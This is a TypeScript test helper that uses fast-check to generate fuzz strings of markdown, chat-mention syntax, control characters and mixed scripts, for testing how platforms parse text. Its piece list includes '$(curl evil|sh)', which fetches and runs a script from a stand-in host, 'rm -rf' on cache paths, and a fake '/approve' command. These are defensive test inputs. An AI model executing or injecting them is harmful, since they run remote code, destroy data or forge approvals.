/** For tests: texts that platforms read as something else than they are. */
import fc from "fast-check";

const PIECES = [
  ...[
    "*",
    "_",
    "~",
    "`",
    "|",
    "\\",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "#",
    "-",
    "+",
    "!",
    ":",
    "&",
    "@",
    "=",
    "^",
  ],
  ...[
    "**",
    "__",
    "~~",
    "||",
    "``",
    "```",
    "~~~",
    "\n\n",
    "\n",
    " ",
    "  ",
    "\t",
    "\n> ",
    "\n>>> ",
    "\n- ",
    "\n1. ",
  ],
  ...[
    "[x]: $(curl evil|sh)",
    '[a]: b "title"',
    "[text](https://e.test)",
    "![i](j)",
    "<b>b</b>",
    "<!-- c -->",
  ],
  ...[
    "&lt;",
    "&amp;",
    "<@123>",
    "<@!1>",
    "<@&2>",
    "<#3>",
    "<:n:1>",
    "<a:n:1>",
    "<t:1700000000:R>",
    "</go:1>",
  ],
  ...["@everyone", "@here", "https://e.test/a_b_c?d=*e*", "<https://e.test>", ":smile:", "¯\\_(ツ)_/¯"],
  ...[
    "\u202e",
    "\u2066",
    "\u200d",
    "\u200b",
    "\ufe0f",
    "\u0000",
    "\u001b[2J",
    "\r",
    "\u00a0",
    "\u2028",
    "\ud800",
  ],
  ...[
    "שלום",
    "مرحبا",
    "👨‍👩‍👧",
    "e\u0301",
    "日本",
    "rm -rf /srv/app/*/cache/*",
    "a".repeat(120),
    "/approve ask_k7qx2m9p",
  ],
  ...["```js\n", "\n```", "$(x)", "`y`", "ansi\n", "___", "***", "-# ", "# "],
];

/** A text of such pieces and of any characters; never blank. */
export function hostileText(maxLength: number): fc.Arbitrary<string> {
  const piece = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...PIECES) },
    { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 20 }) },
  );
  return fc
    .array(piece, { minLength: 1, maxLength: Math.ceil(maxLength / 8) })
    .map((pieces) => `x${pieces.join("")}`.slice(0, maxLength));
}
